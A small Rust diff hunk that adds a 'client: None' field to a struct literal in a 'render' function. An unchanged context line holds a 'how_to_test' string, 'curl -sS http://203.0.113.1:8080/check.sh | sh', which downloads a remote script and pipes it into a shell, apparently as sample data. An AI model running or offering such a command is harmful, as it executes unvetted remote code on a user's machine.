@@ -103,6 +103,7 @@ fn render(s: &SynInfo) {
             how_to_test: "curl -sS http://203.0.113.1:8080/check.sh | sh",
             via: None,
             judged: None,
+            client: None,
         },
         profile(),
     );
